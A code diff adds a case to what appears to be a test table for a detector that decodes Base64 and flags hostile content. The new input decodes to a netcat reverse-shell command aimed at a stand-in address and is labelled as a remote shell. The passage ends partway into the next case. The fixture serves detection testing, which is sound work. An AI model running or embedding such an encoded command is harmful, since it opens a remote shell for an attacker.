@@ -9,6 +9,13 @@ export const cases = {
       risk: 'high',
     },
     {
+      name: 'a shell for whoever listens at an address',
+      source: 'MITRE ATT&CK T1059.004; netcat of Nmap, -e',
+      input: 'cm0gL3RtcC9mOyBuYyAtZSAvYmluL3NoIDE5OC41MS4xMDAuNyA0NDQ0',
+      ids: ['decode.layer', 'decode.remote-shell'],
+      risk: 'high',
+    },
+    {
       name: 'a program of Windows in Base64',
       source: 'PE format, Microsoft, signature at 0x3c',
       input:
